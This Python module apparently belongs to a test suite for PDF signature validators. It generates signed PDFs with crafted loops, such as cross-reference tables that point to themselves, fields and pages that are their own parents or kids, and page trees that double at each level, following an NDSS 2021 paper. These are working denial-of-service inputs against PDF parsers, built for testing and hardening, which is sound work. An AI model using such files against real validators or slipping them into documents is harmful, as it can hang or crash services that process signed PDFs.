"""Loops: files in which following what they say never ends, or doubles at each level. Each still carries a signature.

Source: Müller, Noss, Mladenov, Mainka, Schwenk: Processing Dangerous Paths, NDSS 2021, section V-A.
"""

from __future__ import annotations

from attack_kinds import Family
from attack_pdf import Editor, appended, edited, last_startxref, root_of, written_objects, xref_table

LOOPS = Family("loops")


def trailer_at(pdf: bytes, start: int, entries: str) -> bytes:
    return f"trailer\n<< /Size 500 /Root {root_of(pdf)} 0 R {entries} >>\nstartxref\n{start}\n%%EOF\n".encode()


def with_xref_stream(
    pdf: bytes, rows: dict[int, tuple[int, int, int]], entries: str = "", data: bytes | None = None
) -> bytes:
    """An update that is a cross-reference stream and nothing else."""
    at = len(pdf)
    number = 9000
    rows = rows | {number: (1, at, 0)}
    table = b"".join(
        bytes([kind]) + second.to_bytes(4, "big") + third.to_bytes(2, "big") for kind, second, third in rows.values()
    )
    index = " ".join(f"{key} 1" for key in rows)
    body = data if data is not None else table
    head = f"<< /Type /XRef /Size 9100 /W [1 4 2] /Index [{index}] /Root {root_of(pdf)} 0 R /Length {len(body)} {entries} >>"
    end = b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at
    return pdf + b"%d 0 obj\n" % number + head.encode() + b"\nstream\n" + body + end


@LOOPS.on_each("secretary")
def table_continues_itself(pdf: bytes) -> bytes:
    return pdf + xref_table({}) + trailer_at(pdf, len(pdf), f"/Prev {len(pdf)}")


@LOOPS.on_each("secretary")
def tables_continue_each_other(pdf: bytes) -> bytes:
    first = pdf + xref_table({}) + trailer_at(pdf, len(pdf), f"/Prev {len(pdf) + 200:010d}")
    first = first.ljust(len(pdf) + 200)
    return first + xref_table({}) + trailer_at(pdf, len(first), f"/Prev {len(pdf)}")


@LOOPS.on_each("secretary")
def stream_continues_itself(pdf: bytes) -> bytes:
    return with_xref_stream(pdf, {}, f"/Prev {len(pdf)}")


@LOOPS.on_each("secretary")
def hybrid_continues_itself(pdf: bytes) -> bytes:
    return pdf + xref_table({}) + trailer_at(pdf, len(pdf), f"/Prev {last_startxref(pdf)} /XRefStm {len(pdf)}")


@LOOPS.on_each("secretary")
def field_is_its_own_kid(pdf: bytes) -> bytes:
    return edited(
        pdf,
        lambda editor: editor.put(editor.field("Justerare"), "/Kids", f"[{editor.field_ref('Justerare').idnum} 0 R]"),
    )


@LOOPS.on_each("secretary")
def fields_are_each_others_kids(pdf: bytes) -> bytes:
    def change(editor: Editor) -> None:
        one, other = editor.field_ref("Justerare"), editor.field_ref("Sigill")
        editor.put(one.get_object(), "/Kids", f"[{other.idnum} 0 R]")
        editor.put(other.get_object(), "/Kids", f"[{one.idnum} 0 R {one.idnum} 0 R]")

    return edited(pdf, change)


@LOOPS.on_each("secretary")
def field_is_its_own_parent(pdf: bytes) -> bytes:
    return edited(
        pdf,
        lambda editor: editor.put(
            editor.field("Sekreterare"), "/Parent", f"{editor.field_ref('Sekreterare').idnum} 0 R"
        ),
    )


@LOOPS.on_each("secretary")
def page_tree_is_its_own_kid(pdf: bytes) -> bytes:
    return edited(
        pdf,
        lambda editor: editor.put(editor.root["/Pages"], "/Kids", f"[{editor.root.raw_get('/Pages').idnum} 0 R]"),
    )


@LOOPS.on_each("secretary")
def page_is_its_own_parent(pdf: bytes) -> bytes:
    return edited(pdf, lambda editor: editor.put(editor.page(0), "/Parent", f"{editor.page_ref(0).idnum} 0 R"))


@LOOPS.on_each("secretary")
def page_tree_doubles_at_each_level(pdf: bytes) -> bytes:
    """Forty levels, two kids each, all the same: a million million pages in a few objects."""
    pages = Editor.on(pdf).root.raw_get("/Pages").idnum
    objects = {
        2000 + level: b"<< /Type /Pages /Count 1 /Kids [%d 0 R %d 0 R] >>" % (2001 + level, 2001 + level)
        for level in range(40)
    }
    objects[2040] = b"<< /Type /Page /MediaBox [0 0 9 9] /Parent 2039 0 R >>"
    return appended(pdf, objects | {pages: b"<< /Type /Pages /Count 2 /Kids [2000 0 R] >>"})


@LOOPS.on_each("secretary")
def fields_double_at_each_level(pdf: bytes) -> bytes:
    form = Editor.on(pdf).root.raw_get("/AcroForm").idnum
    objects = {
        2000 + level: b"<< /T (a) /Kids [%d 0 R %d 0 R] >>" % (2001 + level, 2001 + level) for level in range(40)
    }
    objects[2040] = b"<< /T (b) /FT /Sig >>"
    return appended(pdf, objects | {form: b"<< /SigFlags 3 /Fields [2000 0 R] >>"})


@LOOPS.on_each("secretary")
def names_double_at_each_level(pdf: bytes) -> bytes:
    """An array of arrays of arrays, each twice: what is compared object by object never ends."""
    objects = {2000 + level: b"[%d 0 R %d 0 R]" % (2001 + level, 2001 + level) for level in range(40)}
    objects[2040] = b"(end)"
    return edited(appended(pdf, objects), lambda editor: editor.put(editor.root, "/Inventory", "2000 0 R"))


@LOOPS.on_each("secretary")
def structure_is_its_own_kid(pdf: bytes) -> bytes:
    def change(editor: Editor) -> None:
        reference = editor.root["/StructTreeRoot"]["/K"].raw_get(0)
        editor.put(reference.get_object(), "/K", f"[{reference.idnum} 0 R {reference.idnum} 0 R]")

    return edited(pdf, change)


@LOOPS.on_each("secretary")
def reference_to_itself(pdf: bytes) -> bytes:
    return appended(
        pdf, {Editor.on(pdf).root.raw_get("/Pages").idnum: b"%d 0 R" % Editor.on(pdf).root.raw_get("/Pages").idnum}
    )


@LOOPS.on_each("secretary")
def references_in_a_ring(pdf: bytes) -> bytes:
    pages = Editor.on(pdf).root.raw_get("/Pages").idnum
    ring = {3000 + n: b"%d 0 R" % (3000 + (n + 1) % 1000) for n in range(1000)}
    return appended(pdf, ring | {pages: b"3000 0 R"})


@LOOPS.on_each("secretary")
def references_in_a_long_row(pdf: bytes) -> bytes:
    pages = Editor.on(pdf).root.raw_get("/Pages").idnum
    row = {3000 + n: b"%d 0 R" % (3001 + n) for n in range(5000)}
    return appended(pdf, row | {8000: b"<< /Type /Pages /Kids [] /Count 0 >>", pages: b"3000 0 R"})


def with_object_stream(pdf: bytes, header: bytes, first: int, extends: str = "") -> bytes:
    """The catalog lies in an object stream, which says that."""
    body = header
    stream = b"<< /Type /ObjStm /N 1 /First %d %s /Length %d >>\nstream\n%s\nendstream" % (
        first,
        extends.encode(),
        len(body),
        body,
    )
    written, offsets = written_objects({7000: stream}, len(pdf))
    rows = {7000: (1, offsets[7000], 0), root_of(pdf): (2, 7000, 0)}
    return with_xref_stream(pdf + written, rows, f"/Prev {last_startxref(pdf)}")


@LOOPS.on_each("secretary")
def object_stream_contains_itself(pdf: bytes) -> bytes:
    made = with_object_stream(pdf, b"%d 0 << >>" % root_of(pdf), 4)
    rows = {7000: (2, 7000, 0), root_of(pdf): (2, 7000, 0)}
    return with_xref_stream(made, rows, f"/Prev {last_startxref(made)}")


@LOOPS.on_each("secretary")
def object_stream_extends_itself(pdf: bytes) -> bytes:
    return with_object_stream(pdf, b"%d 0 << >>" % root_of(pdf), 4, "/Extends 7000 0 R")


@LOOPS.on_each("secretary")
def length_of_a_stream_is_itself(pdf: bytes) -> bytes:
    page = Editor.on(pdf).page(0).raw_get("/Contents").idnum
    return appended(pdf, {page: b"<< /Length %d 0 R >>\nstream\nq\nendstream" % page})
